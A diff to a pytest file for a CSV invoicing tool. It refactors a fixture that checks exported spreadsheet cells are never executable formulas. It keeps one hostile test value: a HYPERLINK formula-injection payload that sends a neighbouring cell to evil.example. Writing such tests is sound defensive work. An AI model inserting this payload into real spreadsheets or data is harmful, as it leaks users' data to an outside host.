@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import csv
 import io
+from collections.abc import Callable
 from pathlib import Path
 
 import pytest
@@ -13,18 +14,6 @@ from clientguard.cli import EXIT_OK, main
 from clientguard.links import read_links
 
 pytest.importorskip("clientguard_csv", reason="the CSV connector is not installed")
-
-MAPPING = """\
-currency = "EUR"
-date_formats = ["iso"]
-
-[invoices.columns]
-number = "Number"
-customer_name = "Client"
-issue_date = "Issued"
-due_date = "Due"
-total = "Total"
-"""
 
 #: A client name that a spreadsheet would run: a link that sends the next cell away.
 HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Acme")'
@@ -35,22 +24,20 @@ def quoted(text: str) -> str:
 
 
 @pytest.fixture
-def two_sources(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+def two_sources(csv_books: Callable[..., Path]) -> Path:
     """Two sources (the old invoicing tool and the new) that both bill the hostile name."""
-    monkeypatch.chdir(tmp_path)
-    monkeypatch.delenv("CLIENTGUARD_CONFIG", raising=False)
-    (tmp_path / "mapping.toml").write_text(MAPPING)
+    folder = csv_books(paid=False)
     header = "Number,Client,Issued,Due,Total\n"
-    (tmp_path / "new.csv").write_text(header + f"N-1,{quoted(HOSTILE)},2025-01-02,2025-02-01,10\n")
-    (tmp_path / "old.csv").write_text(header + f"O-1,{quoted(HOSTILE)},2024-01-02,2024-02-01,10\n")
+    (folder / "new.csv").write_text(header + f"N-1,{quoted(HOSTILE)},2025-01-02,2025-02-01,10\n")
+    (folder / "old.csv").write_text(header + f"O-1,{quoted(HOSTILE)},2024-01-02,2024-02-01,10\n")
     sources = "".join(
         f'[sources.{name}]\nconnector = "csv"\nmapping = "mapping.toml"\n'
         f'invoices = ["{name}.csv"]\n'
         for name in ("new", "old")
     )
-    (tmp_path / "clientguard.toml").write_text(
+    (folder / "clientguard.toml").write_text(
         f'base_currency = "EUR"\nstore = "data/clientguard.db"\n{sources}')
-    return tmp_path
+    return folder
 
 
 def test_links_suggest_writes_no_cell_a_spreadsheet_would_run(
